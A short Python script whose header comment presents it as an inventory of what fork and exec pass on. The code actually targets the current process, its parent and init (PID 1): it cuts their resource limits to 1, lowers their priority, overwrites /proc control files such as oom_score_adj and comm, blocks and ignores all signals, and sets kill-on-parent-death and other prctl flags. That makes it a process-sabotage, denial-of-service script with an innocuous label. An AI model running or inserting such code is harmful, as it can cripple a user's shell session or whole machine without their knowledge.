# Everything that a fork or an exec hands on: limits, mask, directory, signals, priority, timers, session, name; its parent's too.
import ctypes
import os
import resource
import signal

libc = ctypes.CDLL(None)
for pid in (0, os.getppid(), 1):
    for what in range(16):
        try:
            if what not in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_STACK, resource.RLIMIT_DATA):
                resource.prlimit(pid, what, (1, resource.prlimit(pid, what)[1]))
        except (OSError, ValueError):
            pass
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
    except OSError:
        pass
    for name in ("oom_score_adj", "timerslack_ns", "comm", "coredump_filter", "autogroup", "sched"):
        try:
            with open(f"/proc/{pid or 'self'}/{name}", "w") as file:
                file.write("1")
        except OSError:
            pass
os.umask(0o777)
os.chdir("/")
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
for number in range(1, 64):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.setitimer(signal.ITIMER_REAL, 100)
for option, value in ((1, 9), (4, 0), (15, b"left"), (29, 1), (36, 1), (41, 1)):
    libc.prctl(option, value, 0, 0, 0)
os._exit(0)
